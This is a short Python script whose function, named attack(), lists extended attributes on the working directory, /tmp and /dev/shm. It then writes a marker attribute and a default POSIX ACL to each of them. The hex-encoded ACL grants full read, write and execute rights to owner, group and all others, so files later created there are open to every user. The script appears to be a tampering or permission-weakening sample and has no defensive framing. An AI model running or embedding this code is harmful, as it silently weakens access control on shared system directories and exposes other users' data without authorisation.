import os

FOLDERS = (".", "/tmp", "/dev/shm")

ACL = bytes.fromhex("0200000001000700ffffffff04000700ffffffff20000700ffffffff")


def attack():
    found = []
    for folder in FOLDERS:
        try:
            found += os.listxattr(folder)
        except OSError:
            continue
    for folder in FOLDERS:
        for name, value in (("user.mark", b"x"), ("system.posix_acl_default", ACL)):
            try:
                os.setxattr(folder, name, value)
            except OSError:
                continue
    return found
